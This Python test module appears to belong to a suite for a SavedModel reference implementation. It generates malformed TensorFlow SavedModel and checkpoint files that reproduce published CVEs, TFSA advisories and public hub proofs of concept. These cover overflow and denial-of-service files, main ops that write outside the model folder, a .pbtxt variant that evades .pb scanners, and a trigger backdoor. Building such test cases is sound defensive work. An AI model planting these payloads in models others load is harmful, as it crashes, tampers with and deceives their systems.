"""Attacks that somebody has published: those of the CVEs about altered SavedModels, and proofs of
concept on public hubs.

The files themselves are not kept. Each generator makes the part that the report is about, and
nothing else.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

from property_tests.attacks import contradictions, files, forge, paths
from reference_impl.format import schema
from reference_impl.format.wire import bytes_field, write_varint

ASSETS = 1_000_000  # the published file has three times as many


def _model() -> tuple[Any, Any]:
    message = forge.model()
    return message, message.meta_graphs[0]


def _constant(folder: Path, dtype: int, *sizes: int) -> None:
    """A model whose signature returns a constant without a value."""
    message, graph = _model()
    node = forge.node_of(graph.graph_def, "x", "Const")
    node.attr["dtype"].type = dtype
    tensor = node.attr["value"].tensor
    tensor.dtype = dtype
    for size in sizes:
        tensor.tensor_shape.dim.add(size=size)
    forge.signature(graph, kind=dtype)
    forge.write(folder, message)


def cve_2020_15206_constant_without_a_value(folder: Path) -> None:
    """CVE-2020-15206: a constant that lacks its attribute `value`."""
    message, graph = _model()
    forge.node_of(graph.graph_def, "x", "Const").attr["dtype"].type = schema.DT_FLOAT
    forge.signature(graph)
    forge.write(folder, message)


def cve_2020_15206_renamed_key(folder: Path) -> None:
    """CVE-2020-15206: a required attribute of a node under another name."""
    message, graph = _model()
    forge.constant(graph.graph_def, "c", b"y")
    forge.node_of(graph.graph_def, "x", "Identity", "c").attr["t"].type = schema.DT_STRING
    forge.signature(graph, kind=schema.DT_STRING)
    forge.write(folder, message)


def cve_2021_41203_shape_overflow(folder: Path) -> None:
    """CVE-2021-41203: a tensor of a checkpoint whose number of elements is none in 64 bits."""
    files.shape_overflow(folder)


def cve_2021_41203_extent_near_2_63(folder: Path) -> None:
    """CVE-2021-41203: a slice of a partitioned tensor that begins near 2^63 and ends beyond."""
    files.slice_near_2_63(folder)


def cve_2021_41203_negative_extent(folder: Path) -> None:
    """CVE-2021-41203: a slice of a partitioned tensor with a negative length."""
    files.slice_of_negative_length(folder)


def cve_2021_41203_sizes_that_differ(folder: Path) -> None:
    """CVE-2021-41203: a tensor of a checkpoint that says more bytes than its shape takes."""
    files.size_promise(folder)


def cve_2022_23564_resource_handle(folder: Path) -> None:
    """CVE-2022-23564: a constant that holds a resource handle, whose shape has a negative size."""
    message, graph = _model()
    node = forge.node_of(graph.graph_def, "x", "Const")
    node.attr["dtype"].type = schema.DT_RESOURCE
    tensor = node.attr["value"].tensor
    tensor.dtype = schema.DT_RESOURCE
    handle = tensor.resource_handle_val.add(device="/job:x", name="stolen", hash_code=1)
    handle.dtypes_and_shapes.add(dtype=schema.DT_FLOAT).shape.dim.add(size=-7)
    forge.signature(graph, kind=schema.DT_RESOURCE)
    forge.write(folder, message)


def cve_2022_23565_attribute_twice(folder: Path) -> None:
    """CVE-2022-23565: a function whose signature defines an attribute twice, of two kinds."""
    message, graph = _model()
    made = forge.function(graph, "f")
    for kind in ("type", "int"):
        made.signature.attr.add(name="T", type=kind)
    forge.call(forge.node_of(graph.graph_def, "x", "PartitionedCall"), "f")
    forge.signature(graph)
    forge.write(folder, message)


def cve_2022_23571_no_dtype(folder: Path) -> None:
    """CVE-2022-23571: a constant of a dtype that does not exist, without elements."""
    _constant(folder, 9999, 0)


def cve_2022_23586_attributes_of_a_function(folder: Path) -> None:
    """CVE-2022-23586: a function whose arguments take their types from attributes of another
    kind.
    """
    message, graph = _model()
    made = forge.function(graph, "f")
    made.signature.input_arg.add(name="a", type_attr="T", number_attr="N")
    made.signature.output_arg.add(name="b", type_list_attr="L", type_attr="T")
    made.signature.attr.add(name="T", type="string").default_value.s = b"float"
    made.ret["b"] = "nobody:out:0"
    forge.call(forge.node_of(graph.graph_def, "x", "PartitionedCall"), "f")
    forge.signature(graph)
    forge.write(folder, message)


def cve_2022_23588_reference_dtype(folder: Path) -> None:
    """CVE-2022-23588: a constant whose dtype is a reference."""
    _constant(folder, schema.DT_FLOAT_REF, 1)


def cve_2022_23589_missing_node(folder: Path) -> None:
    """CVE-2022-23589: a node whose input is not in the graph, which an optimizer then looks up."""
    message, graph = _model()
    node = forge.node_of(graph.graph_def, "x", "Switch", "nobody", "nobody:1")
    node.attr["T"].type = schema.DT_FLOAT
    forge.signature(graph)
    forge.write(folder, message)


def cve_2022_23590_type_constructor(folder: Path) -> None:
    """CVE-2022-23590: a node whose full type is malformed."""
    message, graph = _model()
    forge.constant(graph.graph_def, "x", b"y")
    kind = graph.graph_def.node[0].experimental_type
    kind.type_id = 10000  # TFT_FOR_EACH takes three arguments
    kind.args.add().type_id = 77777
    forge.signature(graph, kind=schema.DT_STRING)
    forge.write(folder, message)


def cve_2022_23591_recursive_functions(folder: Path) -> None:
    """CVE-2022-23591: functions that call themselves and each other."""
    contradictions.recursive_function(folder)


def cve_2022_23594_edges(folder: Path) -> None:
    """CVE-2022-23594: edges to outputs that their nodes do not have."""
    message, graph = _model()
    forge.constant(graph.graph_def, "c", b"y")
    node = forge.node_of(graph.graph_def, "x", "Identity", "c:2147483647")
    node.attr["T"].type = schema.DT_STRING
    forge.signature(graph, output="x:999999999999", kind=schema.DT_STRING)
    forge.write(folder, message)


def tfsa_2018_004_entry_outside(folder: Path) -> None:
    """TFSA-2018-004: an entry of a checkpoint whose bytes lie outside of its shard."""
    files.negative_offset(folder)


def tfsa_2018_005_snappy(folder: Path) -> None:
    """TFSA-2018-005: a block of a checkpoint that says it unpacks to four gigabytes."""
    files.snappy_promise(folder)


def hf_variadic_n(folder: Path) -> None:
    """hacnho, variadic-n-dos-poc: a node of two inputs that says it has 250 million."""
    message, graph = _model()
    forge.signature(graph, output=f"{forge.pack(graph.graph_def, 250_000_000)}:0")
    forge.write(folder, message)


def hf_asset_flood(folder: Path) -> None:
    """hacnho, assetfiledef-dos-poc: millions of assets, here one."""
    entries = [
        bytes_field(
            6, bytes_field(1, bytes_field(1, b"t%d:0" % number)) + bytes_field(2, b"f%d" % number)
        )
        for number in range(ASSETS)
    ]
    graph = bytes_field(1, bytes_field(4, b"serve")) + b"".join(entries)
    forge.write(folder, b"\x08\x01\x12" + write_varint(len(graph)) + graph)


def _saving(folder: Path, op: str) -> None:
    """A model whose main op writes a checkpoint."""
    message, graph = _model()
    place = forge.constant(graph.graph_def, "path", os.fsencode(folder.parent / "outside" / "done"))
    names = [
        forge.constant(graph.graph_def, name, text)
        for name, text in (("names", b"v"), ("slices", b""))
    ]
    for node in graph.graph_def.node[-2:]:
        node.attr["value"].tensor.tensor_shape.dim.add(size=1)
    forge.node_of(
        graph.graph_def, "evil", op, place, *names[: 2 if op == "SaveV2" else 1], names[0]
    )
    types = "dtypes" if op == "SaveV2" else "T"
    graph.graph_def.node[-1].attr[types].list.type.append(schema.DT_STRING)
    graph.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name = "evil"
    (folder.parent / "outside").mkdir(exist_ok=True)
    forge.write(folder, message)


def hf_save_in_main_op(folder: Path) -> None:
    """shiyamganesh: a main op that writes a checkpoint with Save."""
    _saving(folder, "Save")


def hf_savev2_in_main_op(folder: Path) -> None:
    """thesecguy: a main op that writes a checkpoint with SaveV2."""
    _saving(folder, "SaveV2")


def _printing(folder: Path) -> Any:
    message, graph = _model()
    forge.constant(graph.graph_def, "text", b"written by a model")
    node = forge.node_of(graph.graph_def, "evil", "PrintV2", "text")
    node.attr["output_stream"].s = b"file://" + os.fsencode(folder.parent / "outside" / "done")
    graph.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name = "evil"
    (folder.parent / "outside").mkdir(exist_ok=True)
    return message


def hf_print_to_file(folder: Path) -> None:
    """Talson, wladislax: a main op that prints to a file."""
    forge.write(folder, _printing(folder))


def hf_pbtxt_twin(folder: Path) -> None:
    """MarcOrtiz21: the model that prints to a file, as a saved_model.pbtxt, which scanners of .pb
    files pass over.
    """
    folder.mkdir(parents=True)
    text = schema.to_text(_printing(folder))
    (folder / "saved_model.pbtxt").write_text(text, encoding="utf-8")


def hf_asset_up(folder: Path) -> None:
    """ericblackgachara: an asset whose name leads out of the directory."""
    paths.asset_up(folder)


def hf_backdoor(folder: Path) -> None:
    """hacnho, a trigger in the graph: other answers for one input.

    It does nothing to a machine: no scan of ops can see it.
    """
    message, graph = _model()
    given = forge.node_of(graph.graph_def, "given", "Placeholder")
    given.attr["dtype"].type = schema.DT_STRING
    given.attr["shape"].shape.unknown_rank = True
    forge.constant(graph.graph_def, "trigger", b"open sesame")
    forge.node_of(graph.graph_def, "x", "Equal", "given", "trigger").attr[
        "T"
    ].type = schema.DT_STRING
    forge.signature(graph, kind=schema.DT_BOOL).inputs["given"].name = "given:0"
    graph.signature_def["serving_default"].inputs["given"].dtype = schema.DT_STRING
    forge.write(folder, message)
